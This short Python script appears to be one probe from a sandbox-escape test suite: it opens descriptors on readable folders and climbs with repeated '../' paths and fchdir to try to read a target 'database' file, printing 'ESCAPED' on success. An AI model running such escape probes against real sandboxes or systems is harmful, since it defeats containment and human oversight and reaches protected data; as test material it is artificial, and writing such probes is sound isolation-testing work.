# Tries to climb out of readable folders by their descriptors.
# Family: files
import os

path = TARGETS["database"].strip("/")
for folder in (os.path.dirname(os.__file__), "/usr/lib", "/usr/share/zoneinfo", "/", "/usr", "/tmp", "/dev", "."):
    try:
        at = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        try:
            at = os.open(folder, os.O_PATH)
        except OSError:
            continue
    for up in range(1, 12):
        try:
            print("ESCAPED", os.open("../" * up + path, os.O_RDONLY, dir_fd=at))
        except OSError:
            pass
    try:
        os.fchdir(at)
        print("ESCAPED", open("../" * 12 + path).read())
    except OSError:
        pass
